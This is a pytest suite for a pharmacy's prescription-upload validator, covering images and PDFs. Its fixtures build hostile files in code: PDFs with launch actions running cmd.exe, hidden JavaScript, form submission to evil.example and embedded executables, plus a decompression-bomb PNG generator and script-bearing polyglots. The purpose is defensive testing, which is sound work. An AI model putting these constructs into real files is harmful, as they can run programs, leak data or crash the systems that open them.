"""Prescription upload validation: hostile files are refused with a plain reason, good ones are cleaned.

Every fixture file is built here in code: images with Pillow, PDFs with pypdf's PdfWriter or by hand
(with a correct cross-reference table) when pypdf will not write the hostile construct for us.
"""

from __future__ import annotations

import contextlib
import random
import struct
import zipfile
import zlib
from io import BytesIO

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import ExifTags, Image
from pypdf import PdfReader, PdfWriter
from pypdf.actions import JavaScript

from shop.prescriptions import pdf_worker, validation
from shop.prescriptions.validation import (
    MAX_BYTES,
    MAX_PDF_PAGES,
    CleanFile,
    UploadRefused,
    render_pdf_page,
    validate_upload,
)

# The customer-facing sentences, spelt out so that a changed wording is a deliberate change.
EMPTY = "The file is empty."
TOO_LARGE = "This file is larger than 10 MB. Please send a smaller photo or PDF."
WRONG_TYPE = "This is not a JPEG, PNG or PDF file. We accept photos (JPEG or PNG) and PDF documents only."
UNREADABLE = (
    "We could not read this file. It may be damaged. Please send a clear photo (JPEG or PNG) or a PDF."
)
IMAGE_DAMAGED = "This image is damaged or incomplete, perhaps cut short during upload. Please try again, or take a new photo."
IMAGE_TOO_MANY_PIXELS = (
    "This image is too large: it has more than 50 million pixels. Please send a smaller photo."
)
IMAGE_TOO_SMALL = "This image is too small to read. Please send a clearer photo of your prescription."
IMAGE_ODD_SHAPE = (
    "This image is too long or too narrow to be a photo of a prescription. Please send a normal photo."
)
PDF_UNREADABLE = "We could not read this PDF. It may be damaged. Please send a scan or photo instead."
PDF_ENCRYPTED = (
    "This PDF is password-protected. Please send a copy without a password, or a scan or photo instead."
)
PDF_NO_PAGES = "This PDF has no pages."
PDF_NO_SUCH_PAGE = "This PDF does not have that page."
PDF_TOO_MANY_PAGES = "This PDF has more than 20 pages. Please send only the pages of your prescription."
PDF_TOO_COMPLEX = "This PDF is too complex for us to check. Please send a scan or photo instead."
PDF_JAVASCRIPT = "This PDF contains JavaScript, which we do not accept. Please send a scan or photo instead."
PDF_LAUNCH = "This PDF contains an action that starts a program, which we do not accept. Please send a scan or photo instead."
PDF_EMBEDDED_FILE = "This PDF contains attached or embedded files, which we do not accept. Please send a scan or photo instead."
PDF_RICH_MEDIA = "This PDF contains embedded media (video, sound or Flash), which we do not accept. Please send a scan or photo instead."
PDF_XFA = "This PDF is an XFA form, which we do not accept. Please print it to a plain PDF, or send a scan or photo instead."
PDF_FORM_ACTION = "This PDF contains a form that sends or loads data, which we do not accept. Please send a scan or photo instead."
PDF_REMOTE_LINK = "This PDF contains links that open other files, which we do not accept. Please send a scan or photo instead."


def refusal(data: bytes, filename: str = "") -> str:
    with pytest.raises(UploadRefused) as caught:
        validate_upload(data, filename)
    assert caught.value.message == str(caught.value)
    return caught.value.message


def worker_refusal(data: bytes) -> str:
    """The PDF checks run in this process, for tests that patch them (a patch cannot reach the child)."""
    with pytest.raises(pdf_worker.PdfRefused) as caught:
        pdf_worker.clean_pdf(data)
    return caught.value.message


# Fixture builders ---------------------------------------------------------------------------------


def noise_image(size: tuple[int, int], mode: str = "RGB", seed: int = 0) -> Image.Image:
    """Random pixels: they do not compress, so a cut file is cut in the middle of the pixel data."""
    bands = len(Image.new(mode, (1, 1)).getbands())
    return Image.frombytes(mode, size, random.Random(seed).randbytes(size[0] * size[1] * bands))


def encode(image: Image.Image, fmt: str, **options: object) -> bytes:
    out = BytesIO()
    image.save(out, format=fmt, **options)
    return out.getvalue()


def jpeg_bytes(size: tuple[int, int] = (200, 150), **options: object) -> bytes:
    return encode(noise_image(size), "JPEG", quality=85, **options)


def png_bytes(size: tuple[int, int] = (120, 90), mode: str = "RGB", **options: object) -> bytes:
    return encode(noise_image(size, mode), "PNG", **options)


def png_chunk(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", zlib.crc32(kind + payload))


def png_chunk_types(data: bytes) -> list[bytes]:
    kinds, position = [], 8
    while position < len(data):
        (length,) = struct.unpack(">I", data[position : position + 4])
        kinds.append(data[position + 4 : position + 8])
        position += 12 + length
    return kinds


def bomb_png(width: int, height: int) -> bytes:
    """A valid 1-bit greyscale PNG of width x height black pixels: tiny on disk, huge once decoded."""
    row = b"\x00" * (1 + (width + 7) // 8)  # filter byte + packed pixels, all zero
    compressor = zlib.compressobj(9)
    block = row * 1000
    idat = b"".join(compressor.compress(block) for _ in range(height // 1000))
    idat += compressor.compress(row * (height % 1000)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + png_chunk(b"IDAT", idat) + png_chunk(b"IEND", b"")
    )


def pdf_bytes(pages: int = 1, **metadata: str) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(595, 842)  # A4 in points
    if metadata:
        writer.add_metadata(metadata)
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def write(writer: PdfWriter) -> bytes:
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


CONTENT = b"BT /F1 24 Tf 72 720 Td (Rx: amoxicillin 500 mg, 21 capsules) Tj ET"


def stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n%s\nendstream" % (len(data), extra, data)


def page_objects(
    content: bytes = CONTENT, catalog_extra: bytes = b"", page_extra: bytes = b""
) -> dict[int, bytes]:
    """A one-page document: 1 catalog, 2 page tree, 3 page, 4 content stream, 5 font."""
    return {
        1: b"<< /Type /Catalog /Pages 2 0 R %s>>" % catalog_extra,
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> %s>>" % page_extra,
        4: stream(content),
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    }


def build_pdf(objects: dict[int, bytes], trailer_extra: bytes = b"") -> bytes:
    """A classic PDF with a correct xref table; object 1 is the catalog."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, objects[number])
    size = max(objects) + 1
    xref = len(out)
    out += b"xref\n0 %d\n" % size
    for number in range(size):
        out += b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0000000000 65535 f \n"
    out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer_extra, xref)
    return bytes(out)


def append_update(pdf: bytes, objects: dict[int, bytes]) -> bytes:
    """An incremental update: new versions of some objects appended after %%EOF, with a /Prev xref."""
    previous = int(pdf.rsplit(b"startxref", 1)[1].split()[0])
    out = bytearray(pdf)
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, objects[number])
    xref = len(out)
    out += b"xref\n"
    for number in sorted(objects):
        out += b"%d 1\n%010d 00000 n \n" % (number, offsets[number])
    size = max(int(n) for n in PdfReader(BytesIO(pdf)).xref[0]) + 1
    out += b"trailer\n<< /Size %d /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (size, previous, xref)
    return bytes(out)


def build_pdf_with_object_stream(plain: dict[int, bytes], hidden: dict[int, bytes]) -> bytes:
    """A PDF 1.5 file whose `hidden` objects sit Flate-compressed inside an object stream.

    Their names never appear in the raw bytes, so only a walk of the parsed objects can see them.
    """
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(plain):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, plain[number])
    numbers = sorted(hidden)
    index, body = [], b""
    for number in numbers:
        index.append(b"%d %d" % (number, len(body)))
        body += hidden[number] + b"\n"
    head = b" ".join(index) + b"\n"
    packed = zlib.compress(head + body)
    objstm = max([*plain, *hidden]) + 1
    offsets[objstm] = len(out)
    out += (
        b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream\nendobj\n"
        % (
            objstm,
            len(numbers),
            len(head),
            len(packed),
            packed,
        )
    )
    xref_number = objstm + 1
    offsets[xref_number] = len(out)
    rows = b""
    for number in range(xref_number + 1):
        if number in hidden:
            rows += struct.pack(">BIH", 2, objstm, numbers.index(number))
        elif number in offsets:
            rows += struct.pack(">BIH", 1, offsets[number], 0)
        else:
            rows += struct.pack(">BIH", 0, 0, 65535)
    packed_rows = zlib.compress(rows)
    out += (
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /Length %d >>\n"
        b"stream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n"
        % (xref_number, xref_number + 1, len(packed_rows), packed_rows, offsets[xref_number])
    )
    return bytes(out)


# Type detection and size ---------------------------------------------------------------------------


def test_renamed_executable_is_refused() -> None:
    elf = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + bytes(range(256)) * 4
    assert refusal(elf, "scan.png") == WRONG_TYPE


def test_html_named_png_is_refused() -> None:
    html = b"<!doctype html><html><body><script>fetch('/account')</script></body></html>"
    assert refusal(html, "prescription.png") == WRONG_TYPE


def test_empty_file_is_refused() -> None:
    assert refusal(b"", "scan.pdf") == EMPTY


@pytest.mark.parametrize("magic", [b"\xff\xd8\xff\xe0", b"\x89PNG\r\n\x1a\n", b"%PDF-1.7\n"])
def test_over_10_mb_is_refused_before_parsing(magic: bytes, monkeypatch: pytest.MonkeyPatch) -> None:
    def must_not_parse(*args: object) -> None:
        raise AssertionError("parsed a file over the size limit")

    monkeypatch.setattr(validation, "_clean_image", must_not_parse)
    monkeypatch.setattr(validation, "_clean_pdf", must_not_parse)
    eleven_mb = magic + b"\x00" * (11 * 1024 * 1024 - len(magic))
    assert refusal(eleven_mb, "scan.jpg") == TOO_LARGE
    assert refusal(magic + b"\x00" * (MAX_BYTES + 1 - len(magic))) == TOO_LARGE


def test_exactly_10_mb_is_not_refused_for_its_size() -> None:
    padded = jpeg_bytes() + b"\x00" * (MAX_BYTES - len(jpeg_bytes()))
    assert len(padded) == MAX_BYTES
    assert validate_upload(padded).content_type == "image/jpeg"  # the padding is trailing data, dropped


def test_filename_never_changes_the_decision() -> None:
    pdf, jpeg, png = pdf_bytes(), jpeg_bytes(), png_bytes()
    assert validate_upload(pdf, "photo.jpg").content_type == "application/pdf"
    assert validate_upload(jpeg, "scan.pdf").content_type == "image/jpeg"
    assert validate_upload(png, "setup.exe").content_type == "image/png"
    assert validate_upload(jpeg, "a.png") == validate_upload(jpeg, "")
    assert refusal(b"GIF89a" + b"\x00" * 64, "photo.jpg") == WRONG_TYPE


def test_pdf_must_start_with_its_signature() -> None:
    assert refusal(b"junk before the header\n" + pdf_bytes()) == WRONG_TYPE


def test_other_byte_containers_are_accepted() -> None:
    data = jpeg_bytes()
    assert validate_upload(bytearray(data)).content_type == "image/jpeg"
    assert validate_upload(memoryview(data)).content_type == "image/jpeg"  # type: ignore[arg-type]
    assert refusal(memoryview(bytearray(MAX_BYTES + 1))) == TOO_LARGE  # type: ignore[arg-type]


@pytest.mark.parametrize("not_bytes", [None, "%PDF-1.7", 10**12, [0xFF, 0xD8, 0xFF]])
def test_values_that_are_not_bytes_are_refused_not_crashed_on(not_bytes: object) -> None:
    assert refusal(not_bytes) == UNREADABLE  # type: ignore[arg-type]  (10**12 must not allocate a terabyte)


# Images -------------------------------------------------------------------------------------------


def test_normal_jpeg_passes() -> None:
    clean = validate_upload(jpeg_bytes((640, 480)), "IMG_0042.JPG")
    assert isinstance(clean, CleanFile)
    assert (clean.content_type, clean.extension, clean.pages) == ("image/jpeg", "jpg", 1)
    with Image.open(BytesIO(clean.data)) as image:
        assert (image.format, image.size, image.mode) == ("JPEG", (640, 480), "RGB")


def test_normal_png_passes() -> None:
    clean = validate_upload(png_bytes((300, 400)), "scan.png")
    assert (clean.content_type, clean.extension, clean.pages) == ("image/png", "png", 1)
    with Image.open(BytesIO(clean.data)) as image:
        assert (image.format, image.size, image.mode) == ("PNG", (300, 400), "RGB")
        assert image.tobytes() == noise_image((300, 400)).tobytes()  # PNG is lossless


def exif_with_gps(orientation: int = 1) -> Image.Exif:
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = orientation
    exif[ExifTags.Base.Make] = "PhoneCo"
    exif[ExifTags.Base.ImageDescription] = "Jane Patient prescription"
    exif[ExifTags.IFD.GPSInfo] = {
        ExifTags.GPS.GPSLatitudeRef: "N",
        ExifTags.GPS.GPSLatitude: (51.0, 30.0, 12.5),
        ExifTags.GPS.GPSLongitudeRef: "W",
        ExifTags.GPS.GPSLongitude: (0.0, 7.0, 39.0),
    }
    return exif


def test_exif_and_gps_are_removed_from_jpeg() -> None:
    original = jpeg_bytes(exif=exif_with_gps(), comment=b"Jane Patient", icc_profile=b"Jane Patient ICC")
    with Image.open(BytesIO(original)) as image:  # the fixture really carries them
        assert image.getexif().get_ifd(ExifTags.IFD.GPSInfo)
        assert "icc_profile" in image.info and "comment" in image.info

    clean = validate_upload(original)
    for marker in (b"Exif", b"Jane", b"PhoneCo", b"ICC_PROFILE"):
        assert marker not in clean.data
    with Image.open(BytesIO(clean.data)) as image:
        assert len(image.getexif()) == 0
        assert image.getexif().get_ifd(ExifTags.IFD.GPSInfo) == {}
        assert not {"exif", "icc_profile", "comment"} & set(image.info)


def test_exif_and_metadata_chunks_are_removed_from_png() -> None:
    from PIL.PngImagePlugin import PngInfo

    text = PngInfo()
    text.add_text("Author", "Jane Patient")
    text.add_itxt("Comment", "Jane Patient, 12 Acacia Avenue", zip=True)
    original = png_bytes(exif=exif_with_gps(), pnginfo=text, icc_profile=b"Jane Patient ICC", dpi=(300, 300))
    assert {b"eXIf", b"tEXt", b"iTXt", b"iCCP", b"pHYs"} <= set(png_chunk_types(original))

    clean = validate_upload(original)
    assert set(png_chunk_types(clean.data)) == {b"IHDR", b"IDAT", b"IEND"}
    assert b"Exif" not in clean.data and b"Jane" not in clean.data
    with Image.open(BytesIO(clean.data)) as image:
        assert len(image.getexif()) == 0


def test_exif_orientation_is_applied_to_the_pixels() -> None:
    # Stored landscape with a red top-left corner; orientation 6 means "rotate 90 degrees clockwise
    # to display", which puts the red corner at the top right of a portrait image.
    stored = Image.new("RGB", (120, 80), "white")
    stored.paste((255, 0, 0), (0, 0, 40, 40))
    clean = validate_upload(encode(stored, "JPEG", quality=95, exif=exif_with_gps(orientation=6)))
    with Image.open(BytesIO(clean.data)) as image:
        assert image.size == (80, 120)
        red, green, _ = image.getpixel((70, 10))
        assert red > 200 and green < 60, image.getpixel((70, 10))
        assert min(image.getpixel((10, 10))) > 200  # the top-left is white now
        assert image.getexif().get(ExifTags.Base.Orientation) is None  # no double rotation in viewers


@pytest.mark.filterwarnings("ignore:Corrupt EXIF data")
def test_damaged_exif_does_not_cost_the_upload() -> None:
    data = jpeg_bytes(exif=b"Exif\x00\x00MM\x00\x2a\xff\xff\xff\xff garbage")
    assert validate_upload(data).content_type == "image/jpeg"


@pytest.mark.parametrize(
    ("fmt", "data"),
    [("JPEG", jpeg_bytes((400, 300))), ("PNG", png_bytes((200, 200)))],
    ids=["jpeg", "png"],
)
def test_truncated_image_is_refused(fmt: str, data: bytes) -> None:
    half = data[: len(data) // 2]
    assert refusal(half, f"scan.{fmt.lower()}") == IMAGE_DAMAGED


def test_image_cut_after_the_header_is_refused() -> None:
    assert refusal(png_bytes()[:40]) == IMAGE_DAMAGED
    assert refusal(b"\xff\xd8\xff") == IMAGE_DAMAGED


def test_corrupt_png_checksum_is_refused() -> None:
    data = bytearray(png_bytes())
    data[40] ^= 0xFF  # inside the first IDAT chunk
    assert refusal(bytes(data)) == IMAGE_DAMAGED


def test_decompression_bomb_is_refused() -> None:
    bomb = bomb_png(30_000, 30_000)  # 900 megapixels declared
    assert len(bomb) < 200_000
    assert refusal(bomb, "scan.png") == IMAGE_TOO_MANY_PIXELS


@pytest.mark.parametrize("side", [8_000, 10_000], ids=["our-50MP-limit", "pillow-bomb-warning"])
def test_images_over_50_megapixels_are_refused_before_decoding(
    side: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    # 64 MP passes Pillow's own check, so only our limit stops it; 100 MP triggers Pillow's
    # DecompressionBombWarning, which must be a refusal rather than a log line.
    def must_not_decode(self: Image.Image) -> None:
        raise AssertionError("decoded the pixels of an oversized image")

    monkeypatch.setattr(Image.Image, "load", must_not_decode)
    monkeypatch.setattr(validation.ImageFile.ImageFile, "load", must_not_decode)
    assert refusal(bomb_png(side, side)) == IMAGE_TOO_MANY_PIXELS


def test_tiny_and_absurdly_shaped_images_are_refused() -> None:
    assert refusal(png_bytes((10, 10))) == IMAGE_TOO_SMALL
    assert refusal(jpeg_bytes((400, 16))) == IMAGE_TOO_SMALL
    assert refusal(png_bytes((2000, 40))) == IMAGE_ODD_SHAPE
    assert refusal(bomb_png(25_000, 40)) == IMAGE_ODD_SHAPE


def test_truncated_images_stay_refused_if_someone_switches_pillow_to_tolerate_them(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(validation.ImageFile, "LOAD_TRUNCATED_IMAGES", True)
    assert refusal(jpeg_bytes()) == UNREADABLE


def test_jpeg_polyglot_is_accepted_without_the_appended_bytes() -> None:
    archive = BytesIO()
    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr("payload.html", "<html><script>alert(document.cookie)</script></html>")
    polyglot = jpeg_bytes() + archive.getvalue() + b"<html><body>hello</body></html>"
    assert zipfile.is_zipfile(BytesIO(polyglot))  # it really is both

    clean = validate_upload(polyglot, "scan.jpg")
    assert clean.content_type == "image/jpeg"
    assert b"PK\x03\x04" not in clean.data and b"<html" not in clean.data and b"<script" not in clean.data
    assert clean.data.endswith(b"\xff\xd9")  # ends at the JPEG end-of-image marker
    assert not zipfile.is_zipfile(BytesIO(clean.data))


def test_png_polyglot_is_accepted_without_the_appended_bytes() -> None:
    clean = validate_upload(png_bytes() + b"<html><script>alert(1)</script></html>")
    assert b"<script" not in clean.data
    assert png_chunk_types(clean.data)[-1] == b"IEND"


@pytest.mark.parametrize(
    ("image", "fmt", "expected_mode"),
    [
        (noise_image((64, 64), "CMYK"), "JPEG", "RGB"),
        (noise_image((64, 64), "L"), "JPEG", "L"),
        (noise_image((64, 64), "LA"), "PNG", "RGBA"),
        (noise_image((64, 64), "1"), "PNG", "L"),
        (noise_image((64, 64), "RGBA"), "PNG", "RGBA"),
        (noise_image((64, 64), "P"), "PNG", "RGB"),
    ],
    ids=["cmyk-jpeg", "grey-jpeg", "la-png", "1bit-png", "rgba-png", "palette-png"],
)
def test_modes_are_converted_to_plain_ones(image: Image.Image, fmt: str, expected_mode: str) -> None:
    clean = validate_upload(encode(image, fmt))
    with Image.open(BytesIO(clean.data)) as result:
        assert result.mode == expected_mode


def test_palette_png_with_transparency_keeps_it_as_alpha() -> None:
    image = noise_image((64, 64), "P")
    clean = validate_upload(encode(image, "PNG", transparency=0))
    with Image.open(BytesIO(clean.data)) as result:
        assert result.mode == "RGBA"
        assert b"tRNS" not in png_chunk_types(clean.data)


def test_16_bit_grey_png_is_scaled_not_clipped() -> None:
    clean = validate_upload(encode(Image.new("I;16", (64, 64), 40_000), "PNG"))
    with Image.open(BytesIO(clean.data)) as result:
        assert result.mode == "L"
        assert result.getpixel((0, 0)) == 40_000 // 256


# PDFs ---------------------------------------------------------------------------------------------


def test_normal_pdf_passes() -> None:
    clean = validate_upload(pdf_bytes(pages=3), "scan.pdf")
    assert (clean.content_type, clean.extension, clean.pages) == ("application/pdf", "pdf", 3)
    assert len(PdfReader(BytesIO(clean.data)).pages) == 3


def test_hand_built_pdf_with_text_passes() -> None:
    clean = validate_upload(build_pdf(page_objects()))
    assert clean.pages == 1
    assert CONTENT in clean.data  # the page content is kept as it was


def test_twenty_pages_pass_and_twenty_one_are_refused() -> None:
    assert validate_upload(pdf_bytes(pages=MAX_PDF_PAGES)).pages == MAX_PDF_PAGES
    assert refusal(pdf_bytes(pages=MAX_PDF_PAGES + 1)) == PDF_TOO_MANY_PAGES


def test_pdf_without_pages_is_refused() -> None:
    objects = {1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [] /Count 0 >>"}
    assert refusal(build_pdf(objects)) == PDF_NO_PAGES


def test_pdf_with_javascript_is_refused() -> None:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_open_action(JavaScript("app.alert('hello');"))  # add_js is removed in pypdf 7
    assert refusal(write(writer), "scan.pdf") == PDF_JAVASCRIPT


def test_pdf_with_an_embedded_file_is_refused() -> None:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_attachment("invoice.exe", b"MZ\x90\x00 not really a program")
    assert refusal(write(writer)) == PDF_EMBEDDED_FILE


def test_pdf_with_a_launch_action_is_refused() -> None:
    objects = page_objects(catalog_extra=b"/OpenAction 6 0 R ")
    objects[6] = b"<< /Type /Action /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"
    assert refusal(build_pdf(objects)) == PDF_LAUNCH


@pytest.mark.parametrize("user_password", ["secret", ""], ids=["with-password", "empty-user-password"])
def test_encrypted_pdf_is_refused(user_password: str) -> None:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.encrypt(user_password=user_password, owner_password="owner", algorithm="AES-256")
    assert refusal(write(writer)) == PDF_ENCRYPTED


HOSTILE_OBJECTS = {
    "javascript-in-page-actions": (
        b"",
        b"/AA << /O 6 0 R >> ",
        b"<< /S /JavaScript /JS (app.alert(1)) >>",
        PDF_JAVASCRIPT,
    ),
    "javascript-name-tree": (
        b"/Names << /JavaScript 6 0 R >> ",
        b"",
        b"<< /Names [(a) << /S /JavaScript /JS (x) >>] >>",
        PDF_JAVASCRIPT,
    ),
    "launch-link": (
        b"",
        b"/Annots [6 0 R] ",
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (a.exe) >> >>",
        PDF_LAUNCH,
    ),
    "embedded-files-tree": (
        b"/Names << /EmbeddedFiles 6 0 R >> ",
        b"",
        b"<< /Names [] >>",
        PDF_EMBEDDED_FILE,
    ),
    "file-attachment-annotation": (
        b"",
        b"/Annots [6 0 R] ",
        b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] >>",
        PDF_EMBEDDED_FILE,
    ),
    "rich-media": (
        b"",
        b"/Annots [6 0 R] ",
        b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>",
        PDF_RICH_MEDIA,
    ),
    "xfa-form": (b"/AcroForm 6 0 R ", b"", b"<< /Fields [] /XFA [(template) 4 0 R] >>", PDF_XFA),
    "submit-form": (
        b"/OpenAction 6 0 R ",
        b"",
        b"<< /S /SubmitForm /F (https://evil.example/) >>",
        PDF_FORM_ACTION,
    ),
    "import-data": (b"/OpenAction 6 0 R ", b"", b"<< /S /ImportData /F (data.fdf) >>", PDF_FORM_ACTION),
    "goto-remote": (
        b"/OpenAction 6 0 R ",
        b"",
        b"<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>",
        PDF_REMOTE_LINK,
    ),
    "goto-embedded": (b"/OpenAction 6 0 R ", b"", b"<< /S /GoToE /T << /R /C /N (x) >> >>", PDF_REMOTE_LINK),
    "hex-escaped-name": (
        b"/OpenAction 6 0 R ",
        b"",
        b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>",
        PDF_JAVASCRIPT,
    ),
}


def hostile_pdf(case: str) -> tuple[bytes, str]:
    catalog_extra, page_extra, obj, message = HOSTILE_OBJECTS[case]
    objects = page_objects(catalog_extra=catalog_extra, page_extra=page_extra)
    objects[6] = obj
    return build_pdf(objects), message


@pytest.mark.parametrize("case", sorted(HOSTILE_OBJECTS))
def test_active_content_is_refused_with_its_reason(case: str) -> None:
    data, message = hostile_pdf(case)
    assert refusal(data) == message


@pytest.mark.parametrize("case", sorted(HOSTILE_OBJECTS))
def test_object_walk_alone_catches_active_content(case: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(pdf_worker, "_raw_scan", lambda data: None)  # take away the second net
    data, message = hostile_pdf(case)
    assert worker_refusal(data) == message


def test_javascript_hidden_in_a_compressed_object_stream_is_refused() -> None:
    plain = {k: v for k, v in page_objects().items() if k != 1}
    benign = build_pdf_with_object_stream(plain, {1: b"<< /Type /Catalog /Pages 2 0 R >>"})
    assert validate_upload(benign).pages == 1  # the hand-built object stream file itself is sound

    hostile = build_pdf_with_object_stream(
        plain,
        {
            1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>",
            6: b"<< /Type /Action /S /JavaScript /JS (app.launchURL('https://evil.example')) >>",
        },
    )
    assert b"JavaScript" not in hostile and b"/JS" not in hostile
    assert refusal(hostile) == PDF_JAVASCRIPT


def test_raw_scan_catches_unreachable_active_content() -> None:
    # Object 6 is in the file but nothing points at it: the object walk cannot see it, the raw
    # scan does (another PDF reader that rebuilds a broken xref might well find it).
    objects = page_objects()
    objects[6] = b"<< /S /Launch /F (calc.exe) >>"
    assert refusal(build_pdf(objects)) == PDF_LAUNCH


def test_raw_scan_ignores_forbidden_looking_bytes_inside_streams() -> None:
    # Compressed image data is random bytes and holds "/JS" now and then; it must not refuse a scan.
    content = CONTENT + b"\n% /JS /JavaScript /Launch (only stream data)"
    assert validate_upload(build_pdf(page_objects(content=content))).pages == 1


def test_reference_cycles_terminate() -> None:
    objects = page_objects(catalog_extra=b"/Loop 6 0 R ")
    objects[6] = b"<< /Next 7 0 R /Self 6 0 R >>"
    objects[7] = b"[6 0 R 7 0 R 1 0 R]"
    assert validate_upload(build_pdf(objects)).pages == 1


def test_too_many_objects_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(pdf_worker, "MAX_PDF_OBJECTS", 5)
    assert worker_refusal(build_pdf(page_objects())) == PDF_TOO_COMPLEX


def test_deeply_nested_arrays_do_not_escape_as_recursion_error() -> None:
    objects = page_objects(catalog_extra=b"/Deep 6 0 R ")
    objects[6] = b"[" * 50_000 + b"]" * 50_000
    with contextlib.suppress(UploadRefused):
        validate_upload(build_pdf(objects))


def test_html_with_a_pdf_header_is_refused_as_unreadable() -> None:
    fake = b"%PDF-1.7\n<html><head><title>Prescription</title></head><body><script>alert(1)</script></body></html>\n"
    assert refusal(fake, "scan.pdf") == PDF_UNREADABLE


def test_corrupt_pdfs_are_refused_as_unreadable() -> None:
    assert refusal(b"%PDF-") == PDF_UNREADABLE
    assert refusal(pdf_bytes()[:60]) == PDF_UNREADABLE
    # pypdf, being lenient, keeps a page dictionary up to the first damaged token (here a number
    # it cannot parse) and drops the rest, contents included: that must not pass as a blank page.
    damaged = page_objects()
    damaged[3] = damaged[3].replace(b"[0 0 595 842]", b"[0 0 1e400 842]")
    assert refusal(build_pdf(damaged)) == PDF_UNREADABLE


def test_inherited_media_box_is_fine() -> None:
    objects = page_objects()
    objects[2] = b"<< /Type /Pages /Kids [3 0 R] /Count 1 /MediaBox [0 0 612 792] >>"
    objects[3] = objects[3].replace(b"/MediaBox [0 0 595 842] ", b"")
    assert validate_upload(build_pdf(objects)).pages == 1


def test_pdf_is_normalised() -> None:
    objects = page_objects(
        content=b"BT /F1 24 Tf 72 720 Td (Original text) Tj ET",
        catalog_extra=b"/Metadata 7 0 R /Outlines 8 0 R /PageMode /UseOutlines ",
    )
    objects[6] = b"<< /Author (Jane Patient) /Producer (ScanCo 1.0) >>"
    objects[7] = stream(b"<x:xmpmeta>Jane Patient</x:xmpmeta>", b"/Type /Metadata /Subtype /XML ")
    objects[8] = b"<< /Type /Outlines /Count 0 >>"
    original = build_pdf(objects, trailer_extra=b"/Info 6 0 R ")
    updated = append_update(original, {4: stream(b"BT /F1 24 Tf 72 720 Td (Updated text) Tj ET")})
    uploaded = updated + b"<html><script>alert(1)</script></html>\n" * 10

    clean = validate_upload(uploaded)
    assert clean.pages == 1
    assert b"Updated text" in clean.data
    for gone in (
        b"Original text",
        b"Jane Patient",
        b"ScanCo",
        b"<html",
        b"/Outlines",
        b"/Metadata",
        b"/Producer",
    ):
        assert gone not in clean.data, gone
    assert clean.data.count(b"%%EOF") == 1 and clean.data.rstrip().endswith(b"%%EOF")
    reader = PdfReader(BytesIO(clean.data))
    assert reader.metadata is None
    assert "Updated text" in reader.pages[0].extract_text()
    assert validate_upload(clean.data).data == clean.data  # stable: cleaning the clean file changes nothing


# Rendering ----------------------------------------------------------------------------------------


def test_render_pdf_page_returns_a_png() -> None:
    clean = validate_upload(build_pdf(page_objects()))
    png = render_pdf_page(clean.data, 0)
    assert png.startswith(b"\x89PNG\r\n\x1a\n")
    with Image.open(BytesIO(png)) as image:
        assert image.format == "PNG"
        assert image.width == 1600 and 2200 < image.height < 2300  # A4 proportions
        assert image.convert("L").getextrema()[0] < 100  # the text was drawn
    with Image.open(BytesIO(render_pdf_page(clean.data, 0, max_width=400))) as small:
        assert small.width == 400


def test_render_pdf_page_bounds_very_tall_pages() -> None:
    objects = page_objects()
    objects[3] = objects[3].replace(b"[0 0 595 842]", b"[0 0 100 14000]")
    clean = validate_upload(build_pdf(objects))
    with Image.open(BytesIO(render_pdf_page(clean.data, 0, max_width=800))) as image:
        assert image.height <= 1600 and image.width <= 800


@pytest.mark.parametrize("index", [1, 5, -1])
def test_render_pdf_page_refuses_a_bad_index(index: int) -> None:
    with pytest.raises(UploadRefused) as caught:
        render_pdf_page(validate_upload(pdf_bytes()).data, index)
    assert caught.value.message == PDF_NO_SUCH_PAGE


